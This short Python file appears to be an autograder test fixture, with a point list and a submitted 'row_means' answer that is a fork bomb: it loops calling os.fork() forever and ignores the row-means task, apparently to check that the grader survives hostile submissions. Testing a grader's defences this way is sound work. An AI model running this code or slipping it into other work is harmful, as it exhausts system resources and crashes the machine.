"""A fork bomb."""

POINTS = [0, 3, 0]

ANSWERS = {
    "row_means": """
import os
def row_means(A):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
}
